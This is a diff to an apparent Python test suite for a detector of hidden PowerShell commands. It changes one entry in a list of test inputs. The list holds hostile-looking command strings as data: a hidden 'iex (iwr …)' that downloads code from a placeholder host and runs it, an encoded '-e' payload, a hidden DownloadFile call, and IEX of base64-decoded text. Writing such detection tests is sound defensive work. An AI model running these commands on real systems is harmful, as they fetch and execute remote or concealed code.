@@ -69,8 +69,7 @@ def test_a_shell_script_runs_its_lines_but_not_its_comments() -> None:
         "powershell -nop -w 1 -e JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0A",
         'powershell", ["-NoProfile", "-w", "hidden", "-c", "iex (iwr https://acme.example)',
         "pwsh -WindowStyle Hidden -c (New-Object Net.WebClient).DownloadFile(1)",
-        "PowerShell -Win Hidden -Command IEX ([Text.Encoding]::UTF8.GetString("
-        "[Convert]::FromBase64String($x)))",
+        "PowerShell -Win Hidden -Command IEX ([Convert]::FromBase64String($x))",
     ],
 )
 def test_a_hidden_powershell_is_found(command: str) -> None:
